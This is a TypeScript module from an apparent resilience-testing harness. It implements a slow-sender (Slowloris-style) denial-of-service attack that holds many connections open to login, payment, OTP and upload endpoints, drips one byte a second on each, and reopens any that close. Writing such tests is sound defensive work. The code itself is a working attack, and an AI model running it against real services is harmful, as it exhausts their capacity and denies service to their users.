import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, head, open, type Target } from './attack';

const BYTE_EVERY_MS = 1_000;
const BOUNDARY = 'multipart/form-data; boundary=x';

type Beginning = (target: Target) => string;

const JSON_BODY = { 'content-type': 'application/json', 'content-length': 1_000 };
const FORM = { 'content-type': BOUNDARY, 'content-length': 40_000_000 };

const BEGINNINGS: Beginning[] = [
  () => `${head('POST /api/auth/login', JSON_BODY)}{`,
  () => `${head('POST /api/payments/webhook', JSON_BODY)}{`,
  () => `${head('POST /api/transactions', JSON_BODY)}{`,
  () => `${head('POST /api/auth/send-email-otp', { ...JSON_BODY, expect: '100-continue' })}`,
  () => `${head('POST /api/documents/upload', FORM)}--x`,
  () =>
    `${head('POST /api/documents/proof/file', FORM)}--x\r\ncontent-disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n`,
  ({ account }) => `${head('POST /api/documents/upload', { ...FORM, authorization: `Bearer ${account.token}` })}--x`,
  ({ account }) => `${head('POST /api/vault/upload', { ...FORM, authorization: `Bearer ${account.token}` })}--x`,
  // Never comes to the end of its headers.
  () => 'GET /api/catalogue HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: a',
];

/** Each address holds many connections open and sends a byte a second on each; one that is closed is opened again. */
export const slowSenders: Attack = {
  name: 'slow senders',
  run: (target, note, signal) =>
    Promise.all(
      target.addresses.flatMap((address, at) =>
        Array.from({ length: target.slowEach }, (_, n) =>
          sendSlowly(target, address, BEGINNINGS[(at + n) % BEGINNINGS.length]!, note, signal),
        ),
      ),
    ),
};

async function sendSlowly(
  target: Target,
  address: string,
  begin: Beginning,
  note: (status: number) => void,
  signal: AbortSignal,
): Promise<void> {
  while (!signal.aborted) {
    const { socket, answered } = open(target, address, begin(target), signal);
    const dripping = setInterval(() => socket.writable && socket.write('a'), BYTE_EVERY_MS);
    const status = await answered;
    clearInterval(dripping);
    if (signal.aborted) return;
    note(status);
    await pause(BYTE_EVERY_MS, undefined, { signal }).catch(() => undefined);
  }
}
